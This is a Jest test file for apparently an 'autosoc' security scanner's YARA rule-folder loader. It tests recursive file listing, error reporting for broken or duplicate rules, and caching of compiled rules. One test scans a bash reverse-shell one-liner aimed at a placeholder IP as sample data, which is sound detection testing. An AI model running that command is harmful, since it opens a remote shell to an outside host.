// Loading rule folders: every .yar/.yara file under AUTOSOC_YARA_DIRS, broken files reported
// and skipped, compiled once and reused until a file changes.
import { mkdirSync, mkdtempSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { compileRuleFiles, getYaraScanner, listRuleFiles, parseYaraDirs, scanWithYara } from '../../../src/analyzers/yara';

const rule = (name: string, marker: string) => `rule ${name} { meta: severity = "high" strings: $a = "${marker}" condition: $a }\n`;

describe('parseYaraDirs', () => {
  it('splits a PATH-like value, resolves, drops empties and repeats', () => {
    expect(parseYaraDirs(undefined)).toEqual([]);
    expect(parseYaraDirs('')).toEqual([]);
    expect(parseYaraDirs('/srv/rules: rel/dir ::/srv/rules')).toEqual(['/srv/rules', resolve('rel/dir')]);
  });
});

describe('user rule folders', () => {
  let root: string;
  beforeEach(() => {
    root = mkdtempSync(join(tmpdir(), 'autosoc-yara-dirs-'));
  });
  afterEach(() => rmSync(root, { recursive: true, force: true }));

  it('lists .yar and .yara files recursively, skipping hidden entries and other extensions', () => {
    mkdirSync(join(root, 'a', 'deeper'), { recursive: true });
    mkdirSync(join(root, '.git'));
    writeFileSync(join(root, 'b.yar'), rule('b', 'B'));
    writeFileSync(join(root, 'a', 'deeper', 'c.YARA'), rule('c', 'C'));
    writeFileSync(join(root, 'notes.txt'), 'not a rule');
    writeFileSync(join(root, '.hidden.yar'), rule('h', 'H'));
    writeFileSync(join(root, '.git', 'x.yar'), rule('x', 'X'));
    const { files, problems } = listRuleFiles([root, join(root, 'missing')]);
    expect(files.map((f) => f.path)).toEqual([join(root, 'a', 'deeper', 'c.YARA'), join(root, 'b.yar')]);
    expect(problems).toHaveLength(1);
    expect(problems[0].path).toBe(join(root, 'missing'));
    expect(problems[0].error).toMatch(/cannot read rule folder: ENOENT/);
  });

  it('reports a broken file and a conflicting file by path and keeps every other rule', () => {
    writeFileSync(join(root, '1-good.yar'), rule('user_good', 'GOOD-MARKER'));
    writeFileSync(join(root, '2-broken.yara'), 'rule user_broken { strings: $a = "x" condition: $b }\n');
    // Compiles alone, but reuses a curated rule's name: blamed on this file, not on rules/yara.
    writeFileSync(join(root, '3-duplicate.yar'), '\n\n' + rule('autosoc_eicar_test_file', 'DUP'));
    writeFileSync(join(root, '4-also-good.yar'), 'import "pe"\n' + rule('user_also_good', 'ALSO-GOOD'));
    const scanner = getYaraScanner([root]);
    expect(scanner.problems.map((p) => p.path)).toEqual([join(root, '2-broken.yara'), join(root, '3-duplicate.yar')]);
    expect(scanner.problems[0].error).toMatch(/E\d{3}.*unknown pattern `\$b`/);
    expect(scanner.problems[1].error).toMatch(/conflicts with other rule files: .*duplicate rule `autosoc_eicar_test_file`/);
    expect(scanner.files).toContain(join(root, '1-good.yar'));
    expect(scanner.files).toContain(join(root, '4-also-good.yar'));
    expect(scanWithYara(Buffer.from('GOOD-MARKER ALSO-GOOD'), scanner).summary).toMatch(
      /user_also_good.*user_good|user_good.*user_also_good/,
    );
    // The curated rules still run next to the user's.
    expect(scanWithYara(Buffer.from('bash -i >& /dev/tcp/198.51.100.2/443 0>&1'), scanner).summary).toContain(
      'autosoc_reverse_shell_one_liner',
    );
  });

  it('compiles once and reuses the rules until a file is touched, added or removed', () => {
    const first = join(root, 'first.yar');
    writeFileSync(first, rule('user_first', 'FIRST'));
    const a = getYaraScanner([root], { bundled: false });
    expect(getYaraScanner([root], { bundled: false })).toBe(a);

    const later = new Date(Date.now() + 60_000);
    writeFileSync(first, rule('user_first', 'CHANGED'));
    utimesSync(first, later, later);
    const b = getYaraScanner([root], { bundled: false });
    expect(b).not.toBe(a);
    expect(b.version).not.toBe(a.version);
    expect(scanWithYara(Buffer.from('CHANGED'), b).verdict).toBe('malicious');
    expect(scanWithYara(Buffer.from('FIRST'), b).verdict).toBe('unknown');
    // The old scanner keeps working for scans already holding it.
    expect(scanWithYara(Buffer.from('FIRST'), a).verdict).toBe('malicious');

    writeFileSync(join(root, 'second.yar'), rule('user_second', 'SECOND'));
    const c = getYaraScanner([root], { bundled: false });
    expect(c).not.toBe(b);
    expect(c.files).toHaveLength(2);
    expect(getYaraScanner([root], { bundled: false })).toBe(c);

    rmSync(join(root, 'second.yar'));
    const d = getYaraScanner([root], { bundled: false });
    expect(d).not.toBe(c);
    expect(d.version).toBe(b.version);
  });

  it('gives an empty rule set, not a failure, when no folder holds rules', () => {
    const scanner = getYaraScanner([join(root, 'nothing-here')], { bundled: false });
    expect(scanner.files).toEqual([]);
    expect(scanner.problems).toHaveLength(1);
    expect(scanWithYara(Buffer.from('anything'), scanner).verdict).toBe('unknown');
  });

  it('blames every conflicting file when several reuse one name', () => {
    for (const n of ['a', 'b', 'c']) writeFileSync(join(root, `${n}.yar`), rule('same_name', n.toUpperCase().repeat(4)));
    const files = listRuleFiles([root]).files;
    const compiled = compileRuleFiles(files);
    expect(compiled.loaded).toEqual([join(root, 'a.yar')]);
    expect(compiled.rejected.map((p) => p.path)).toEqual([join(root, 'b.yar'), join(root, 'c.yar')]);
  });
});
